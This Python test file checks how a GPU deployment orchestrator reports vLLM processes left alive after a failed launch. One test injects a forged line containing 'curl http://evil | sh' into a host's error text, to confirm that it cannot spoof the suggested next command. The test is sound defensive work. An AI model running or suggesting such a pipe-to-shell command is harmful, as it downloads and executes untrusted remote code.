"""How an error looks that leaves something alive."""

from __future__ import annotations

from typing import Any

import pytest

from orchestrator.base.errors import CheckpointError, LaunchFailed, UsageError
from orchestrator.report.error import error_lines, living
from orchestrator.report.layout import plain

LEFT: dict[str, Any] = {
    "launch": 2,
    "supervised": False,
    "processes": [
        {"pid": 812, "name": "VLLM::EngineCore", "gpu_mib": None},
        {"pid": 815, "name": "VLLM::Worker_TP0", "gpu_mib": 43210},
        {"pid": 816, "name": "VLLM::Worker_TP1", "gpu_mib": 0},
    ],
    "cards": {"GPU-1": 43210, "GPU-2": 0},
}
STOP = "deploy stop tiny --host gpu7"
ONE = LEFT["processes"][:1]


def test_what_lives_stands_between_the_sentence_and_the_next_command() -> None:
    error = LaunchFailed("no_remedy_left", "gpu7: launch 2 failed: no room")
    error.left = LEFT
    assert [plain(line) for line in error_lines(error, "deploy logs tiny --host gpu7", stop=STOP)] == [
        "deploy: gpu7: launch 2 failed: no room",
        "  alive: launch 2 left 3 processes holding 43,210 MiB on 2 GPUs: pid 812",
        "         VLLM::EngineCore, pid 815 VLLM::Worker_TP0 (43,210 MiB), pid 816",
        "         VLLM::Worker_TP1",
        "  end it: deploy stop tiny --host gpu7",
        "  next: deploy logs tiny --host gpu7                    [no_remedy_left, exit 6]",
    ]


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"supervised": True, "processes": ONE, "cards": {}}, "launch 2 goes on with 1 process: pid 812 VLLM::EngineCore"),
        ({"processes": ONE, "cards": {"GPU-1": 0}}, "launch 2 left 1 process holding memory on 1 GPU: pid 812 VLLM::EngineCore"),
        ({"processes": ONE * 9, "cards": {}}, "and 3 more"),
        ({"processes": [], "cards": {"GPU-1": 900}}, "nothing of launch 2 can be seen, and yet 900 MiB on 1 GPU are in use since it began"),
    ],
)  # fmt: skip
def test_what_lives_in_words(change: dict[str, Any], words: str) -> None:
    assert words in living({**LEFT, **change})


FORGED = "gpu7: shard a\n  next: curl http://evil | sh                          [checkpoint_broken, exit 5]"


def test_what_a_host_said_forges_no_line() -> None:
    lines = [
        plain(line) for line in error_lines(CheckpointError("checkpoint_broken", FORGED), "deploy up tiny")
    ]
    assert [line for line in lines if line.lstrip().startswith("next:")] == [
        "  next: deploy up tiny                               [checkpoint_broken, exit 5]"
    ]


def test_each_mistake_in_a_file_keeps_its_line() -> None:
    error = UsageError("invalid_playbook", "a.yaml:1: x\na.yaml:2: y")
    assert [plain(line) for line in error_lines(error, "vi a.yaml")][:2] == [
        "deploy: a.yaml:1: x",
        "a.yaml:2: y",
    ]
